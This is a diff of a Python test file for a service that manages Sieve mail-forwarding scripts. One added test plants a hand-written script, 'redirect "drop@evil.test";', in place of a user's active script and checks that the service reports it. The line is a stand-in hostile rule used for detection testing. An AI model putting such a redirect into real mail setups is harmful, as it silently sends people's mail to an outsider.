@@ -91,10 +91,22 @@ class TurnOff(ForwardingCase):
         self.assertEqual(before, self.scripts())
 
     def test_no_script_is_active(self):
-        self.assert_only(self.actions().apply(), "nothingToDo", "^No script is active")
+        self.assert_only(self.actions().apply(), "nothingToDo", "shows no active script")
         self.put(active=False)
-        self.assert_only(self.actions().apply(), "nothingToDo", "^No script is active")
+        self.assert_only(self.actions().apply(), "nothingToDo", "shows no active script")
         self.assertEqual((None, {"main": SCRIPT}), self.scripts())
+
+    def test_a_file_in_the_place_of_the_active_script_is_shown_to_nobody(self):
+        """Pigeonhole runs it, and the service says no more than what it has seen."""
+        self.lay(b'redirect "drop@evil.test";')
+        link = self.lab.mail_folder() / self.user / ".dovecot.sieve"
+        script = link.resolve()
+        link.unlink()
+        script.rename(link)
+        self.assertEqual((0, [OUTSIDE]), self.deliver())
+        self.assert_only(self.actions().apply(), "nothingToDo", "laid into the home by hand, .*, is not "
+                         "shown, and runs all the same")
+        self.assertEqual((0, [OUTSIDE]), self.deliver())
 
     def test_applying_and_undoing_twice_does_it_once(self):
         self.put()
